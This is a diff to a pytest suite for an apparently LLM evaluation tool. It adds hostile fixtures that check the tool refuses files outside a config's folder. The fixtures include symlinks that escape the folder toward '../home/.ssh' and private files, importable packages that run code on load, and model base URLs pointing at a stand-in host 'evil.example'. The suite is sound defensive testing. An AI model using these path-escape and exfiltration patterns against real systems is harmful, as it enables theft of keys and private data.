@@ -191,6 +191,10 @@ OS_ENTRY = orjson.dumps(
         }
     ]
 ).decode()
+OS_RUN = (
+    "kind: experiment\ntask: os_tasks\ndataset: d/x.json\n"
+    f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}}}\n"
+)
 QA = (
     "kind: experiment\ntask: qa\nmodels: {a: {model: vllm/m, base_url: 'http://evil.example/v1'}}\n"
 )
@@ -443,10 +447,27 @@ HOSTILE = {
         {
             "d/scripts": "->../../../home/.ssh",
             "d/x.json": OS_ENTRY,
-            "x.yaml": f"kind: experiment\ntask: os_tasks\ndataset: d/x.json\n"
-            f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}}}\n",
+            "x.yaml": OS_RUN,
         },
         (),
+    ),
+    "a source text that is a link": (
+        {
+            "../../home/t.xml": f"<doc docid='1'><seg id='1'>{PRIVATE}</seg></doc>",
+            "t.en-de.en.xml": "->../../home/t.xml",
+            "t.en-de.de.xml": "<doc docid='1'><seg id='1'>Guten Morgen.</seg></doc>",
+            "x.yaml": "kind: experiment\ntask: translation\ndataset: t.en-de.de.xml\n"
+            "set: {pair: en-de}\ninstruments: {judge: bot/random}\n"
+            f"models: {{a: {{model: vllm/m, base_url: '{EVIL}'}}, b: bot/random}}\n",
+        },
+        (),
+    ),
+    "a dataset in a variable that is allowed": (
+        {
+            "q.csv": "question,A,B,C,D,answer\nwhat?,1,2,3,4,A\n",
+            "x.yaml": f"{QA}dataset: q.csv\nset: {{shots: 1, shots_from: '${{HOME}}/q.csv'}}\n",
+        },
+        ("run", "x.yaml", "--yes", "--allow-env", "HOME"),
     ),
     # tasks
     "a variable in the prompt of a task": (
@@ -463,6 +484,34 @@ HOSTILE = {
     "a function outside the folder": (
         {"x.yaml": models("model: 'python/../../home/code:play'")},
         (),
+    ),
+    "a function behind a link": (
+        {"linked.py": "->../../home/code.py", "x.yaml": models("model: 'python/linked:play'")},
+        (),
+    ),
+    "a function in a package that is a link": (
+        {
+            "../../home/package/__init__.py": "",
+            "../../home/package/code.py": "from pathlib import Path\n"
+            "(Path.home().parent / 'ran').touch()\ndef play(view):\n    return '1'\n",
+            "own": "->../../home/package",
+            "x.yaml": models("model: 'python/own.code:play'"),
+        },
+        (),
+    ),
+    "a package behind a link that hides a module": (
+        {
+            "../../home/package/__init__.py": "from pathlib import Path\n"
+            "(Path.home().parent / 'ran').touch()\ndef play(view):\n    return '1'\n",
+            "twice.py": "def play(view):\n    return '1'\n",
+            "twice": "->../../home/package",
+            "x.yaml": models("model: 'python/twice:play'"),
+        },
+        (),
+    ),
+    "a metric behind a link": (
+        {"mine.py": "->../../home/code.py", "t.yaml": TASK.replace("METRIC", "mine:measure")},
+        ("run", "t.yaml", "--yes", "-m", "bot/random", "-m", "b=bot/random"),
     ),
     "a task by way of a folder": (
         {"x.yaml": f"kind: experiment\ntask: ./sub/../../../home/code.py\nmodels: {{{BOTS}}}\n"},
@@ -599,3 +648,34 @@ def test_a_file_begins_with_no_run_of_the_users(here, tmp_path, monkeypatch, sto
     if code:
         assert "evolve.transfer: last is a run" in said.err
         assert "--allow-path last" in said.err
+
+
+@pytest.mark.parametrize(
+    ("data", "named", "script"),
+    [
+        ("d/x.json", "x.json", "scripts/x/id_rsa"),
+        ("d/1/x.json", "1/x.json", "scripts/1/id_rsa"),
+        ("d/1/x.json", ".", "scripts/1/id_rsa"),
+    ],
+)
+def test_a_dataset_of_a_file_names_the_script_outside_its_folder(here, data, named, script):
+    """The same dataset and scripts are read if the user names the dataset himself, or allows it."""
+    (here / "d/1").mkdir(parents=True)
+    run_by_bot = f"kind: experiment\ntask: os_tasks\ndataset: {named}/\nmodels: {{a: bot/idler}}\n"
+    run_by_bot = run_by_bot.replace(".json/", ".json")
+    lay(here, {script: "true\n", data: OS_ENTRY, "d/x.yaml": run_by_bot})
+    words = "run", "d/x.yaml", "--yes"
+    said = command(*words, cwd=here, code=2)
+    place = here / script
+    assert f"d/x.yaml, line 3: dataset: {place} is outside the folder of this file" in said.err
+    assert f"--allow-path {place}" in said.err
+    command(*words, "--dry-run", "--allow-path", place, cwd=here)
+    command(*words, "--dry-run", "--dataset", f"d/{named}", cwd=here)
+
+
+@pytest.mark.parametrize("place", [".", "d", "d/1"])
+def test_the_scripts_of_a_dataset_are_found_from_every_folder(here, monkeypatch, place):
+    lay(here, {"scripts/1/id_rsa": "true\n", "d/1/x.json": OS_ENTRY})
+    monkeypatch.chdir(here / place)
+    (entry,) = load_items(os.path.relpath(here / "d/1/x.json"), OSEntry)
+    assert entry.start.code == "true\n"
